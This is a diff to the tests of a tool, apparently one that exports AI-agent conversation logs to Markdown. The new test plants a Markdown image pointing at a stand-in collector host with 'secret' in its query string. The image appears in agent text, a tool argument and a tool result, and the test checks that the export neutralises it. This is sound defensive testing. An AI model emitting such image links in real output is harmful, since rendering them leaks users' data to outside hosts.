@@ -43,8 +43,8 @@ How deep?
 
 Looking.
 
-- \`query_rag\` {"query":"depth"}
-- \`late\` {}
+- \`query_rag\` \` {"query":"depth"} \`
+- \`late\` \` {} \`
 
 Result of \`query_rag\`:
 
@@ -58,7 +58,7 @@ Failure of \`late\`:
 no
 \`\`\`
 
-- \`notify\` {}
+- \`notify\` \` {} \`
 
 \`\`\`js
 add(1, 2)
@@ -103,4 +103,16 @@ test('without a title its id stands for it', async () => {
   await saved.rename('conv_1', 'Harbour');
   expect(await toMarkdown(saved, 'conv_1')).toMatch(/^# Harbour\n/u);
   await expect(toJson(saved, 'conv_9')).rejects.toMatchObject({ code: 'unknown_conversation' });
+});
+
+test('what others may have written into a call is no link and no image in the document', async () => {
+  const image = '![x](https://collector.example/?d=secret)';
+  const saved = await told(
+    callsStep(`I look. ${image}`, [{ id: 'a', name: 'write_note', args: { text: `a \`\` b ${image}` } }]),
+    resultStep({ id: 'a', name: 'write_note', ok: true, text: image }),
+  );
+  const text = await toMarkdown(saved, 'conv_1');
+  expect(text).toContain('I look. x (collector.example/?d=secret)');
+  expect(text).toContain(`\`\`\` {"text":"a \`\` b ${image}"} \`\`\``);
+  expect(text).toContain(`\`\`\`\n${image}\n\`\`\``);
 });
